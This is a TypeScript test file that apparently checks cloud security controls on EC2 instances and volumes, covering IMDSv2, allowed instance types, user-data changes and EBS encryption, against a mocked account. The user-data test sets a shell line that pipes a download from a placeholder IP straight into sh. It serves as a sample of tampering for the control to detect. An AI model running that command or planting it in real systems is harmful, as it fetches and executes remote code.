import {
  DeleteVolumeCommand,
  DisableEbsEncryptionByDefaultCommand,
  EnableEbsEncryptionByDefaultCommand,
  GetEbsEncryptionByDefaultCommand,
  ModifyInstanceAttributeCommand,
  ModifyInstanceMetadataOptionsCommand,
  StartInstancesCommand,
  StopInstancesCommand,
} from '@aws-sdk/client-ec2';
import ebsEncrypted from '../../../shared/controls/ec2/ec2-account-ebs-encrypted.ts';
import imdsv2 from '../../../shared/controls/ec2/ec2-instance-imdsv2.ts';
import userDataKept from '../../../shared/controls/ec2/ec2-instance-user-data-kept.ts';
import whereAllowed from '../../../shared/controls/ec2/ec2-instance-where-allowed.ts';
import volumeEncrypted from '../../../shared/controls/ec2/ec2-volume-encrypted.ts';
import { ec2Service } from '../../../shared/services/ec2.ts';
import { startWireAccount, type WireAccount } from '../../support/wire-account.ts';
import {
  createInstance,
  createVolume,
  readInstance,
  readVolume,
  terminateInstance,
  toUserData,
} from '../../support/wire-compute.ts';
import { describeControl } from '../../support/wire-control.ts';
import { describeReport } from '../../support/wire-report.ts';

describe('the controls of instances and volumes in an account', () => {
  let account: WireAccount;

  beforeAll(async () => {
    account = await startWireAccount();
  });

  afterAll(async () => account.stop());

  const ofInstances = {
    create: async () => createInstance(account),
    remove: async (id: string) => terminateInstance(account, id),
    read: async (id: string) => readInstance(account, id),
  };
  const metadataOptions = {
    HttpEndpoint: 'enabled',
    HttpPutResponseHopLimit: 3,
    HttpProtocolIpv6: 'enabled',
    InstanceMetadataTags: 'enabled',
  } as const;

  describeControl(imdsv2, ec2Service, () => account, {
    ...ofInstances,
    event: (id) => ({
      eventSource: 'ec2.amazonaws.com',
      eventName: 'ModifyInstanceMetadataOptions',
      requestParameters: { ModifyInstanceMetadataOptionsRequest: { InstanceId: id } },
    }),
    drifts: [
      {
        name: 'metadata without a token',
        make: async (id) =>
          account.clients.ec2.send(
            new ModifyInstanceMetadataOptionsCommand({
              InstanceId: id,
              ...metadataOptions,
              HttpTokens: 'optional',
            }),
          ),
      },
    ],
  });

  describeControl(whereAllowed, ec2Service, () => account, {
    ...ofInstances,
    settings: { instanceTypes: ['t4g.*'] },
    event: (id) => ({
      eventSource: 'ec2.amazonaws.com',
      eventName: 'StartInstances',
      responseElements: { instancesSet: { items: [{ instanceId: id }] } },
    }),
    drifts: [
      {
        name: 'an instance that was made larger than is allowed',
        async make(id) {
          const InstanceIds = [id];
          await account.clients.ec2.send(new StopInstancesCommand({ InstanceIds }));
          await account.clients.ec2.send(
            new ModifyInstanceAttributeCommand({ InstanceId: id, InstanceType: { Value: 'p5.48xlarge' } }),
          );
          await account.clients.ec2.send(new StartInstancesCommand({ InstanceIds }));
        },
        putBack: (_good, { instance, ...others }) => ({
          ...others,
          instance: { ...instance, State: { Code: 80, Name: 'stopped' as const } },
        }),
      },
    ],
  });

  describeReport(userDataKept, ec2Service, () => account, {
    ...ofInstances,
    // Moto describes the attributes of a terminated instance, as EC2 does for an hour.
    outlivesRemoval: true,
    event: (id) => ({
      eventSource: 'ec2.amazonaws.com',
      eventName: 'ModifyInstanceAttribute',
      requestParameters: { instanceId: id, userData: '<sensitiveDataRemoved>' },
    }),
    drift: {
      name: 'user data that was changed',
      async make(id) {
        await account.clients.ec2.send(
          new ModifyInstanceAttributeCommand({
            InstanceId: id,
            UserData: { Value: Buffer.from(toUserData('#!/bin/sh\ncurl http://198.51.100.66/x | sh\n')) },
          }),
        );
        return id;
      },
    },
  });

  describeReport(volumeEncrypted, ec2Service, () => account, {
    create: async () => createVolume(account),
    remove: async (id) => account.clients.ec2.send(new DeleteVolumeCommand({ VolumeId: id })),
    read: async (id) => readVolume(account, id),
    event: (id) => ({
      eventSource: 'ec2.amazonaws.com',
      eventName: 'CreateVolume',
      responseElements: { volumeId: id },
    }),
    drift: {
      name: 'a volume that was made without encryption',
      make: async () => createVolume(account, false),
    },
  });

  describeControl(ebsEncrypted, ec2Service, () => account, {
    async create() {
      await account.clients.ec2.send(new EnableEbsEncryptionByDefaultCommand({}));
      return account.place.account;
    },
    remove: async () => account.clients.ec2.send(new DisableEbsEncryptionByDefaultCommand({})),
    read: async () => {
      const { EbsEncryptionByDefault } = await account.clients.ec2.send(
        new GetEbsEncryptionByDefaultCommand({}),
      );
      return EbsEncryptionByDefault;
    },
    isPermanent: true,
    event: () => ({ eventSource: 'ec2.amazonaws.com', eventName: 'DisableEbsEncryptionByDefault' }),
    drifts: [
      {
        name: 'encryption by default turned off',
        make: async () => account.clients.ec2.send(new DisableEbsEncryptionByDefaultCommand({})),
      },
    ],
  });
});
